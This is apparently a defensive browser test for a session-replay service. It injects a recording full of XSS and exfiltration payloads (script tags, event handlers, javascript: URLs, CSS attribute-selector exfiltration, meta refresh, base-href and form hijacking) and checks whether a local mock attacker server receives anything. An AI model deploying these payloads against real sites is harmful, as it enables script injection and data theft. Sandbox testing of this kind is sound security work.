// Stores a hostile recording (scripts, inline handlers, javascript: URLs, SVG script, meta refresh,
// <base href>, forms posting elsewhere, CSS url() exfiltration, external images, stylesheets, frames
// and plugins) and plays it on the replay page in Chromium.
// Every payload that could run code does more than call out (which the Content-Security-Policy alone
// would stop): it also leaves a flag wherever a script in the replay could reach — a global and the
// title of the top page, its localStorage, a postMessage to the top page and a global in its own
// frame — so that code running behind a weakened sandbox is seen even when it cannot reach the network.
// Reports every request that reached the "attacker" server, every flag, dialogs, navigations and
// the sandbox of the replay iframe.
// Env: BASE_URL, TOKEN, INGEST_KEY, ORIGIN (an allowed origin for the key).
import http from 'node:http';
import path from 'node:path';
import { launchChromium } from './lib.mjs';

const { BASE_URL, TOKEN, INGEST_KEY, ORIGIN } = process.env;
const base = BASE_URL.replace(/\/$/, '');
const hits = [];
let A = '';

// JavaScript a payload runs: flags its name everywhere a script could, then calls out.
const flag = (name) => [
  `try{window.__pwnedHere=(window.__pwnedHere||'')+'${name} '}catch(e){}`,
  `try{top.__pwned=(top.__pwned||'')+'${name} '}catch(e){}`,
  `try{top.document.title='pwned ${name}'}catch(e){}`,
  `try{localStorage.setItem('pwned-${name}','1')}catch(e){}`,
  `try{top.postMessage('pwned ${name}','*')}catch(e){}`,
  `try{fetch('${A}/${name}')}catch(e){}`,
].join(';');

const attacker = http.createServer((req, res) => {
  hits.push(`${req.method} ${req.url}`);
  const name = req.url.replace(/^\/+/, '').replace(/[^a-z0-9-]/gi, '-');
  if (req.url.endsWith('.js')) {
    res.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' });
    res.end(flag(`served-${name}`));
  } else if (req.url.endsWith('.css')) {
    res.writeHead(200, { 'content-type': 'text/css', 'access-control-allow-origin': '*' });
    res.end(`body { background: url(${A}/from-served-css); }`);
  } else if (req.url.endsWith('.html')) {
    res.writeHead(200, { 'content-type': 'text/html' });
    res.end(`<script>${flag(`served-${name}`)}</script>`);
  } else {
    res.writeHead(200, { 'content-type': 'text/plain', 'access-control-allow-origin': '*' });
    res.end('ok');
  }
});
await new Promise((r) => attacker.listen(0, '127.0.0.1', r));
A = `http://127.0.0.1:${attacker.address().port}`;

let id = 1;
const el = (tagName, attributes = {}, childNodes = []) => ({ type: 2, tagName, attributes, childNodes, id: id++ });
const svg = (tagName, attributes = {}, childNodes = []) => ({ ...el(tagName, attributes, childNodes), isSVG: true });
const text = (textContent) => ({ type: 3, textContent, id: id++ });
const doc = {
  type: 0, id: id++, childNodes: [
    { type: 1, name: 'html', publicId: '', systemId: '', id: id++ },
    el('html', {}, [
      el('head', {}, [
        el('meta', { 'http-equiv': 'refresh', content: `0;url=${A}/meta-refresh` }),
        el('base', { href: `${A}/base/` }),
        el('link', { rel: 'stylesheet', href: `${A}/external.css` }),
        el('link', { rel: 'prefetch', href: `${A}/prefetch` }),
        el('style', { _cssText: `body { background: url(${A}/css-url); } @import url(${A}/css-import.css);`
          + ` @font-face { font-family: x; src: url(${A}/css-font); } h1 { font-family: x; }`
          + ` input[value^="x"] { background-image: url(${A}/css-attribute-selector); }` }),
        el('script', {}, [text(flag('script-inline'))]),
        el('script', { src: `${A}/script-src.js` }),
      ]),
      el('body', { onload: flag('body-onload') }, [
        el('h1', {}, [text('Hostile page')]),
        el('img', { src: `${A}/img.png`, onerror: flag('img-onerror') }),
        el('img', { src: 'relative.png' }),
        el('img', { src: 'data:,broken', onerror: flag('img-onerror-local') }),
        el('a', { id: 'jslink', href: `javascript:${flag('javascript-url')}`, style: 'display:block;width:300px;height:40px;background:#eee' },
          [text('click me')]),
        el('a', { id: 'toplink', href: `${A}/top-navigation`, target: '_top', style: 'display:block;width:300px;height:40px' }, [text('top')]),
        el('a', { id: 'baselink', href: 'relative-link', style: 'display:block;width:300px;height:40px' }, [text('relative')]),
        svg('svg', { width: '10', height: '10', onload: flag('svg-onload') }, [svg('script', {}, [text(flag('svg-script'))])]),
        el('form', { id: 'f', action: `${A}/form-post`, method: 'post' }, [
          el('input', { name: 'q', value: 'x', autofocus: '', onfocus: flag('input-onfocus') }),
          el('button', { id: 'submit', type: 'submit', style: 'width:200px;height:40px' }, [text('Submit')]),
        ]),
        el('form', { id: 'f2', action: `${A}/form-top`, method: 'get', target: '_top' }, [
          el('button', { id: 'submit2', type: 'submit' }, [text('Submit to top')]),
        ]),
        el('details', { open: '', ontoggle: flag('details-ontoggle') }, [text('details')]),
        el('div', { style: `width:50px;height:50px;background-image:url(${A}/inline-style)` }),
        el('iframe', { srcdoc: `<script>${flag('iframe-srcdoc')}</script>` }),
        el('iframe', { src: `javascript:'<script>${flag('iframe-javascript').replace(/'/g, '"')}</script>'` }),
        el('iframe', { src: `${A}/framed.html` }),
        el('object', { data: `${A}/object` }),
        el('embed', { src: `${A}/embed` }),
        el('video', { src: `${A}/video.mp4`, autoplay: '' }),
      ]),
    ]),
  ],
};
const now = Date.now() - 10_000;
const bodyId = doc.childNodes[1].childNodes[1].id;
const events = [
  { type: 4, timestamp: now, data: { href: `${A}/page`, width: 1024, height: 700 } },
  { type: 2, timestamp: now + 10, data: { node: doc, initialOffset: { top: 0, left: 0 } } },
  { type: 3, timestamp: now + 1000, data: { source: 0, texts: [], removes: [],
    attributes: [{ id: bodyId, attributes: { onclick: flag('mutation-onclick') } }],
    adds: [
      { parentId: bodyId, nextId: null, node: { type: 2, tagName: 'script', attributes: { src: `${A}/added-script.js` }, childNodes: [], id: 9001 } },
      { parentId: bodyId, nextId: null, node: { type: 2, tagName: 'img', attributes: { src: `${A}/added-img.png`, onerror: flag('added-onerror') },
        childNodes: [], id: 9002 } },
      { parentId: bodyId, nextId: null, node: { type: 2, tagName: 'script', attributes: {}, childNodes: [], id: 9003 } },
      { parentId: 9003, nextId: null, node: { type: 3, textContent: flag('added-inline-script'), id: 9004 } },
      { parentId: bodyId, nextId: null, node: { type: 2, tagName: 'img', attributes: { src: 'data:,x', onerror: flag('added-onerror-local') },
        childNodes: [], id: 9005 } },
    ] } },
  { type: 3, timestamp: now + 2000, data: { source: 2, type: 2, id: 9002, x: 10, y: 10 } },
  { type: 5, timestamp: now + 2500, data: { tag: 'error', payload: { type: '<img src=x onerror=alert(1)>', message: `<script>fetch('${A}/marker-label')</script>` } } },
  { type: 3, timestamp: now + 4000, data: { source: 1, positions: [{ x: 5, y: 5, id: bodyId, timeOffset: 0 }] } },
];
const sessionId = 'hostile-' + Math.random().toString(36).slice(2, 12);
const res = await fetch(`${base}/api/v1/ingest`, {
  method: 'POST',
  headers: { 'content-type': 'application/json', 'x-replaylink-key': INGEST_KEY, origin: ORIGIN },
  body: JSON.stringify({ sessionId, windowId: 'window-hostile', seq: 0, sentAt: now + 4100, events }),
});
if (res.status !== 200) {
  console.error('ingest failed', res.status, await res.text());
  process.exit(1);
}

const browser = await launchChromium();
const result = { sessionId };
try {
  const page = await browser.newPage({ viewport: { width: 1400, height: 900 } });
  // Messages posted to the top page, collected before any page script runs.
  await page.addInitScript(() => {
    if (window !== window.top) return;
    window.__messages = [];
    window.addEventListener('message', (e) => window.__messages.push(String(e.data).slice(0, 100)));
  });
  const dialogs = [];
  const navigations = [];
  page.on('dialog', (d) => { dialogs.push(d.message()); d.dismiss().catch(() => {}); });
  page.on('framenavigated', (f) => navigations.push({ url: f.url(), top: f === page.mainFrame() }));
  page.on('popup', (p) => navigations.push({ url: 'popup ' + p.url(), top: true }));
  await page.goto(`${base}/login?next=${encodeURIComponent(`/replay/${sessionId}?t=${now + 100}`)}`);
  await page.fill('#token', TOKEN);
  await Promise.all([page.waitForNavigation(), page.click('button[type=submit]')]);
  await page.waitForFunction(() => document.body.dataset.state, null, { timeout: 30000 });
  result.state = await page.evaluate(() => document.body.dataset.state);
  const replayUrl = page.url();
  const title = await page.title();
  // play through the whole recording
  await page.evaluate(() => document.querySelector('#play, .rr-controller__btns button')?.click());
  await page.waitForTimeout(5000);
  // try to trigger the links, the forms and the handlers inside the replay
  const frame = page.frames().find((f) => f.parentFrame() === page.mainFrame());
  result.frameFound = Boolean(frame);
  if (frame) {
    await frame.evaluate(() => {
      for (const sel of ['#jslink', '#toplink', '#baselink', '#submit', '#submit2', 'body']) {
        try { document.querySelector(sel)?.click(); } catch (e) { /* blocked */ }
      }
    }).catch((e) => { result.frameEvalError = String(e).slice(0, 200); });
  }
  await page.mouse.click(200, 200);
  await page.waitForTimeout(2000);
  const iframes = await page.$$eval('iframe', (fs) => fs.map((f) => (f.hasAttribute('sandbox') ? f.getAttribute('sandbox') : null)));
  result.iframeCount = iframes.length;
  result.sandbox = iframes.length === 0 ? null : iframes[0];
  result.unsandboxedIframes = iframes.filter((s) => s === null).length;
  const flags = await page.evaluate(() => ({
    global: window.__pwned ?? null,
    messages: (window.__messages || []).filter((m) => m.startsWith('pwned')),
    storage: Object.keys(localStorage).filter((k) => k.startsWith('pwned')),
    title: document.title,
  }));
  const inFrames = [];
  for (const f of page.frames()) {
    if (f === page.mainFrame()) continue;
    const here = await f.evaluate(() => window.__pwnedHere ?? null).catch(() => null);
    if (here) inFrames.push(here);
  }
  result.pwned = flags.global;
  result.pwnedMessages = flags.messages;
  result.pwnedStorage = flags.storage;
  result.pwnedInFrames = inFrames;
  result.titleChanged = flags.title !== title ? flags.title : null;
  result.markerLabelIsText = await page.evaluate(() => {
    const li = document.querySelector('#markers li[data-kind="error"] .label');
    return li ? li.children.length === 0 && li.textContent.includes('<script>') : null;
  });
  result.finalUrl = page.url();
  result.stayed = page.url() === replayUrl;
  result.dialogs = dialogs;
  // A frame whose load the policy blocked shows Chromium's error page: blocked, not navigated.
  const harmless = (u) => u.startsWith(base) || ['about:blank', 'about:srcdoc', 'chrome-error://chromewebdata/'].includes(u);
  result.topNavigations = navigations.filter((n) => n.top && !n.url.startsWith(base)).map((n) => n.url);
  result.frameNavigations = navigations.filter((n) => !n.top && !harmless(n.url)).map((n) => n.url);
  result.blockedFrameLoads = navigations.filter((n) => !n.top && n.url.startsWith('chrome-error:')).length;
  await page.screenshot({ path: path.join(process.env.SCREENSHOT_DIR || '.', 'hostile-replay.png') });
} finally {
  await browser.close();
  attacker.close();
}
result.attackerHits = hits;
console.log(JSON.stringify(result));
